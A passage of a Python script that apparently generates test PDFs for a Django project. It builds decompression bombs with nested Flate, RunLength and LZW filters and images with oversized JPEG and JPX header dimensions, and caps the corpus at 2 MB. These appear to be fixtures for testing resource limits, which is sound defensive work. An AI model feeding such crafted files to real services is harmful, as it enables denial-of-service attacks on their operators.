        "bomb_hex_flate.pdf": _image_pdf(
            _image(
                flate_flate.hex().encode() + b">",
                width=1000,
                height=1000,
                extra=b" /Filter [/ASCIIHexDecode /FlateDecode /FlateDecode]",
            )
        ),
        "bomb_runlength.pdf": _image_pdf(
            _image(
                runs,
                width=1000,
                height=1000,
                extra=b" /Filter [/FlateDecode /RunLengthDecode]",
            )
        ),
        "bomb_lzw.pdf": _image_pdf(
            _image(
                zlib.compress(lzw_zeros(44 * 1024 * 1024), 9),
                width=1000,
                height=1000,
                extra=b" /Filter [/FlateDecode /LZWDecode]",
            )
        ),
        "image_huge.pdf": _image_pdf(
            _image(
                _jpeg_header(60_000, 60_000),
                width=60_000,
                height=60_000,
                extra=b" /Filter /DCTDecode",
            )
        ),
        "image_jpeg_header.pdf": _image_pdf(
            _image(
                _jpeg_header(65_000, 65_000), width=100, height=100, extra=b" /Filter /DCTDecode"
            )
        ),
        "image_jpx_header.pdf": _image_pdf(
            _image(_jpx_header(50_000, 50_000), width=100, height=100, extra=b" /Filter /JPXDecode")
        ),
        "image_inline.pdf": _text_pdf(
            content=b"q 100 0 0 100 50 50 cm BI /W 40000 /H 40000 /CS /G /BPC 8 /F /DCT ID "
            + _jpeg_header(40_000, 40_000)
            + b"\nEI Q\n"
        ),
        "image_tall.pdf": _image_pdf(
            _image(
                zlib.compress(bytes(30_000)),
                width=1,
                height=30_000,
                extra=b" /Filter /FlateDecode",
            )
        ),
    }


def main() -> None:
    _setup_django()
    FILES.mkdir(parents=True, exist_ok=True)
    files = build()
    for old in FILES.glob("*.pdf"):
        if old.name not in files:
            old.unlink()
    for name, content in files.items():
        (FILES / name).write_bytes(content)
    total = sum(len(content) for content in files.values())
    for name, content in sorted(files.items()):
        print(f"{len(content):>9,}  {name}")
    print(f"{total:>9,}  in all ({len(files)} files, voucher {corpus_code()})")
    if total >= 2 * 1024 * 1024:
        raise SystemExit("The corpus must stay under 2 MB.")


if __name__ == "__main__":
    main()
